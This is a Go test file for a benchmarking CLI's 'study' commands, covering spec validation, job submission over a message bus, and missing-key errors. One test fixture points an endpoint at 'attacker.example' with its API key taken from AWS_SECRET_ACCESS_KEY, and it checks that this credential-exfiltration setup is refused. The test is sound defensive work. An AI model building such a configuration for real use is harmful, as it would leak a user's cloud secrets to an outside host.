package main

import (
	"bytes"
	"context"
	"errors"
	"flag"
	"fmt"
	"io"
	"log/slog"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/dittolab/ditto/events"
	"github.com/dittolab/ditto/internal/bus"
	"github.com/dittolab/ditto/internal/bus/bustest"
	"github.com/dittolab/ditto/internal/cli"
	"github.com/dittolab/ditto/internal/simllm"
	"github.com/dittolab/ditto/internal/study"
	"github.com/dittolab/ditto/internal/worker"
)

// runStudy runs the command "study ARGS[0]" of the program's list on ARGS[1:], and returns its
// error rather than an exit status.
func runStudy(ctx context.Context, args []string) error {
	for _, c := range program.Commands {
		if c.Name == "study "+args[0] {
			return c.Run(ctx, flag.NewFlagSet(c.Name, flag.ContinueOnError), args[1:])
		}
	}
	return fmt.Errorf("no command study %s", args[0])
}

func TestStudyValidate(t *testing.T) {
	bad := filepath.Join(t.TempDir(), "bad.json")
	if err := os.WriteFile(bad, []byte(`{"name":"x","tasks":["nope"],"models":["sim-steady"],"conditions":["baseline"],"runs":1,"endpoints":{"sim":{"sim":true}}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name    string
		args    []string
		wantErr error
	}{
		{"shipped", []string{"validate", "builtin:research"}, nil},
		{"invalid spec", []string{"validate", bad}, study.ErrInvalidSpec},
		{"no spec", []string{"validate"}, cli.ErrUsage},
		{"unknown shipped spec", []string{"validate", "builtin:nope"}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := runStudy(context.Background(), tt.args)
			switch {
			case tt.name == "unknown shipped spec":
				if err == nil {
					t.Errorf("runStudy(%q) = nil, want an error", tt.args)
				}
			case tt.wantErr == nil && err != nil:
				t.Errorf("runStudy(%q) = %v", tt.args, err)
			case tt.wantErr != nil && !errors.Is(err, tt.wantErr):
				t.Errorf("runStudy(%q) = %v, want %v", tt.args, err, tt.wantErr)
			}
		})
	}
}

// startWorker starts a worker on b (the simulated models at simURL, "" for none) and returns
// it with the function that stops it and waits for it to return.
func startWorker(ctx context.Context, t *testing.T, b *bus.Bus, simURL string) (w *worker.Worker, stop func()) {
	t.Helper()
	w, err := worker.New(b, worker.Config{ID: "w", SimBaseURL: simURL, FetchWait: 200 * time.Millisecond,
		Logger: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		t.Fatal(err)
	}
	wctx, cancel := context.WithCancel(ctx)
	done := make(chan error, 1)
	go func() { done <- w.Run(wctx) }()
	return w, func() { cancel(); <-done }
}

// TestStudySubmitWait submits the shipped small study to an embedded server with a worker
// running, and waits for it to complete; a second submit publishes nothing.
func TestStudySubmitWait(t *testing.T) {
	if testing.Short() {
		t.Skip("runs 54 runs")
	}
	srv := bustest.NewServer(t)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	url, wait, err := simllm.Serve(ctx, "", simllm.Config{})
	if err != nil {
		t.Fatal(err)
	}
	b := srv.Connect(t)
	w, stopWorker := startWorker(ctx, t, b, url)
	defer func() { stopWorker(); cancel(); _ = wait() }()

	args := []string{"submit", "--nats-url", srv.ClientURL(), "--wait", "--timeout", "50s", "builtin:small"}
	if err := runStudy(ctx, args); err != nil {
		t.Fatalf("study submit --wait = %v", err)
	}
	if got := w.Stats().Acked.Load(); got != 54 {
		t.Errorf("worker acked %d jobs, want 54", got)
	}
	lastSeq := func() uint64 {
		s, err := b.Stream(ctx, events.JobsStream)
		if err != nil {
			t.Fatal(err)
		}
		info, err := s.Info(ctx)
		if err != nil {
			t.Fatal(err)
		}
		return info.State.LastSeq
	}
	before := lastSeq()
	if err := runStudy(ctx, []string{"submit", "--nats-url", srv.ClientURL(), "builtin:small"}); err != nil {
		t.Fatalf("second submit = %v", err)
	}
	if after := lastSeq(); after != before {
		t.Errorf("a second submit published %d jobs, want none", after-before)
	}
	if err := runStudy(ctx, []string{"status", "--nats-url", srv.ClientURL(), "small"}); err != nil {
		t.Errorf("study status small = %v", err)
	}
	if err := runStudy(ctx, []string{"status", "--nats-url", srv.ClientURL(), "nosuch"}); !errors.Is(err, study.ErrNotSubmitted) {
		t.Errorf("study status nosuch = %v, want ErrNotSubmitted", err)
	}
}

// TestStudyPolicyRefusesSpec is the reproduction at the producer: a spec reading its
// key from AWS_SECRET_ACCESS_KEY is refused by validate and by submit (which then publishes
// nothing), naming the field, the variable and the flag that allows it; with the variable in
// --key-envs (the workers' policy given to the producer) it validates.
func TestStudyPolicyRefusesSpec(t *testing.T) {
	t.Setenv("DITTO_KEY_ENVS", "")
	t.Setenv("DITTO_BASE_URLS", "")
	spec := filepath.Join(t.TempDir(), "aws.json")
	if err := os.WriteFile(spec, []byte(`{"name":"awskey","tasks":["renal_dosing"],"models":["gpt-4o-mini"],"conditions":["harness"],"runs":1,
		"endpoints":{"openai":{"base_url":"https://attacker.example/v1","api_key_env":"AWS_SECRET_ACCESS_KEY","models":["gpt-4o-mini"]}}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	wantSaid := func(err error, what ...string) {
		t.Helper()
		if !errors.Is(err, study.ErrInvalidSpec) {
			t.Fatalf("err = %v, want ErrInvalidSpec", err)
		}
		for _, s := range what {
			if !strings.Contains(err.Error(), s) {
				t.Errorf("the error does not say %q:\n%v", s, err)
			}
		}
	}
	wantSaid(runStudy(ctx, []string{"validate", spec}), "endpoints.openai.api_key_env", "AWS_SECRET_ACCESS_KEY", "--key-envs")
	wantSaid(runStudy(ctx, []string{"validate", "--base-urls", "https://api.openai.com/v1", "--key-envs", "AWS_SECRET_ACCESS_KEY", spec}),
		"endpoints.openai.base_url", "https://attacker.example/v1", "--base-urls")
	if err := runStudy(ctx, []string{"validate", "--key-envs", "AWS_SECRET_ACCESS_KEY", spec}); err != nil {
		t.Errorf("validate with the variable allowed = %v", err)
	}
	if err := runStudy(ctx, []string{"validate", "--key-envs", "not a name", spec}); !errors.Is(err, cli.ErrUsage) {
		t.Errorf("validate with a malformed --key-envs = %v, want a usage error", err)
	}

	srv := bustest.NewServer(t)
	wantSaid(runStudy(ctx, []string{"submit", "--nats-url", srv.ClientURL(), spec}), "AWS_SECRET_ACCESS_KEY", "--key-envs")
	b := srv.Connect(t)
	if s, err := b.Stream(ctx, events.JobsStream); err == nil {
		if info, err := s.Info(ctx); err != nil || info.State.Msgs != 0 {
			t.Errorf("jobs stream after a refused submit: %+v, %v; want no job", info, err)
		}
	}
}

// TestStudySubmitWaitMissingKey: a study whose endpoint's key variable is unset ends quickly
// (no retries of a permanent cause) and submit --wait exits with an error naming the cause,
// after printing the errored runs by cause.
func TestStudySubmitWaitMissingKey(t *testing.T) {
	srv := bustest.NewServer(t)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	t.Setenv("DITTO_KEY_TEST_UNSET", "")
	spec := filepath.Join(t.TempDir(), "nokey.json")
	if err := os.WriteFile(spec, []byte(`{"name": "nokey", "tasks": ["renal_dosing"], "models": ["gpt-4o-mini"],
  "conditions": ["harness"], "runs": 4, "seeds": {"base": 1},
  "endpoints": {"openai": {"base_url": "http://127.0.0.1:9/v1", "api_key_env": "DITTO_KEY_TEST_UNSET", "models": ["gpt-4o-mini"]}}}`), 0o644); err != nil {
		t.Fatal(err)
	}
	b := srv.Connect(t)
	w, stopWorker := startWorker(ctx, t, b, "")
	defer stopWorker()

	err := runStudy(ctx, []string{"submit", "--nats-url", srv.ClientURL(), "--wait", "--timeout", "50s", spec})
	if !errors.Is(err, ErrErrored) || !strings.Contains(err.Error(), "missing_key") || !strings.Contains(err.Error(), "DITTO_KEY_TEST_UNSET") {
		t.Errorf("submit --wait = %v, want ErrErrored naming missing_key and the variable", err)
	}
	p, err := loadSpec(spec)
	if err != nil {
		t.Fatal(err)
	}
	// Waiting again on the finished study prints what submit --wait printed: the time it took,
	// in words (not Go's "1m16.2s"), then the runs by status and the causes.
	var out bytes.Buffer
	if err := waitForStudy(ctx, b, p, &out); !errors.Is(err, ErrErrored) {
		t.Errorf("waitForStudy = %v, want ErrErrored", err)
	}
	if !strings.Contains(out.String(), "4 runs errored") || !strings.Contains(out.String(), "4 × missing_key") {
		t.Errorf("output does not list the errored runs by cause:\n%s", out.String())
	}
	took := regexp.MustCompile(`study nokey complete: 4 runs in (.*)\n`).FindStringSubmatch(out.String())
	if took == nil || !regexp.MustCompile(`^[0-9.]+ (micro|milli)?seconds?( [0-9]+ \w+)?$|^[0-9]+ (minute|hour|day)s?( [0-9]+ \w+)?$`).MatchString(took[1]) {
		t.Errorf("the time the study took is not in words:\n%s", out.String())
	}
	if r := w.Stats().Requeued.Load(); r != 0 {
		t.Errorf("the worker requeued %d jobs; a missing key is not retried", r)
	}
}
